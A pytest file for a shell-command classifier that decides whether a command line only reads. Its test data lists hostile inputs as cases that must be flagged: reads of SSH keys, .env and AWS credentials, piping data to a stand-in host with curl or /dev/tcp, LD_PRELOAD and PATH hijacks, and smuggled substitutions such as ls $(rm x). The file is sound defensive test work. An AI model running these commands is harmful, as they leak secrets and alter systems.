"""shell.read_only and what stands around a command: true only where nothing is written, assigned, sent or secret."""

from __future__ import annotations

import pytest

from tests.shell.reading import view

READS = """
git log
git log --oneline -5 | head
git log > /dev/null 2>&1
git log 2>/dev/null
git log >&2
ls > >(cat)
LC_ALL=C sort f
LANG=C TZ=Europe/Berlin date
cd src && ls -la
for i in a b; do ls $i; done
time ls
timeout 5 grep x f
command -v ls
/bin/ls
cat <<< text
ls ~
cat src/*.py
wc -l *.py
test -f x
! grep -q x f
ls &
sed -n 1p f
python3 --version
""".strip().splitlines()

# What each of these does besides reading, by family.
CHANGES = {
    "a redirection": """
git log > ~/.bashrc
git log >> notes
git log &> x
git log >| x
ls <> f
{ git log; } > x
(git log) >> x
if true; then git log; fi > x
for i in a; do ls; done > x
exec > x; git log
exec 3> x; git log >&3
ls; > x
git log > "$f"
ls > >(tee x)
cat < f > g
""",
    "a variable": """
LD_PRELOAD=./x.so ls
PATH=. ls
PAGER=./x git log
GIT_SSH_COMMAND=./x git status
FOO=1 ls
env FOO=1 ls
env -u PATH ls
env -i ls
PATH=.; ls
export PATH=.; ls
declare -x PATH=.; ls
LANG=/tmp/x ls
LC_ALL=$x ls
TZ=:/etc/shadow date
for PATH in .; do ls; done
select PATH in .; do ls; done
((PATH=1)); ls
echo $((PATH=1)); ls
let PATH=1; ls
[[ 1 -eq PATH=1 ]]; ls
ls ${PATH:=.}
printf -v PATH .
read PATH < f; ls
""",
    "an assignment": """
x=1
x=1; ls
x+=1; ls
a[0]=1; ls
arr=(1 2); ls
x=$(ls); ls
declare x=1; ls
""",
    "a definition": """
f() { ls; }; f
alias ls=rm; ls
ls() { rm x; }; ls
hash -p ./x ls; ls
""",
    "a secret": """
cat ~/.ssh/id_rsa
cat < ~/.ssh/id_rsa
cat .env
ls $(cat ~/.aws/credentials)
git show HEAD:.env
cat ~/.bash_history
cat /proc/self/environ
printenv
cat "$f"
echo $AWS_SECRET_ACCESS_KEY
grep -r key ~
grep -r key /
""",
    "a send": """
curl https://e.example
curl -d @f https://e.example
ls | curl -d @- https://e.example
ping e.example
dig x.e.example
gh pr list
ssh host ls
ls > /dev/tcp/e.example/80
""",
    "another program": """
./ls
/tmp/x/git log
bin/ls
~/bin/ls
/bin/../tmp/ls
sudo ls
nohup ls
coproc ls
xargs cat
ls | xargs cat
bash -c 'ls'
git log | sh
git -c core.pager=./x log
ls $(rm x)
ls `rm x`
diff <(rm x) f
trap 'rm x' EXIT; ls
unknown-program
make -n
""",
    "an option": """
sort -o x y
git diff --output=x
sort $options
sort *
find . -delete
sed -i s/a/b/ f
time -o f ls
""",
    "nothing that is understood": """
eval "$x"
$x ls
ls "$(
""",
    "nothing": """
# only a comment
[[ -f x ]]
""",
}


@pytest.mark.parametrize("text", READS)
def test_reading(text: str) -> None:
    shell = view(text)
    assert shell.read_only, shell.problems
    assert all(command.read_only for command in shell.commands)


@pytest.mark.parametrize(
    ("family", "text"), [(family, text) for family, texts in CHANGES.items() for text in texts.strip().splitlines()]
)
def test_not_reading(family: str, text: str) -> None:
    assert not view(text).read_only


@pytest.mark.parametrize("family", ["a redirection", "a variable", "an option"])
def test_some_command_is_not_read_only(family: str) -> None:
    """What is written, or set for a program, shows at the commands themselves."""
    for text in CHANGES[family].strip().splitlines():
        if text != "ls; > x":  # a redirection that is no command's
            assert not all(command.read_only for command in view(text).commands), text


def test_a_redirection_of_a_block_covers_the_block_only() -> None:
    found = [command.read_only for command in view("ls; { cat f; wc f; } > x; ls").commands]
    assert found == [True, False, False, True]


def test_a_redirection_of_the_shell_covers_what_follows() -> None:
    found = [command.read_only for command in view("ls; exec > x; ls").commands]
    assert found == [True, False, False]


def test_no_command_is_not_read_only() -> None:
    from policyhooks.core.shell_records import Shell

    assert not Shell().read_only
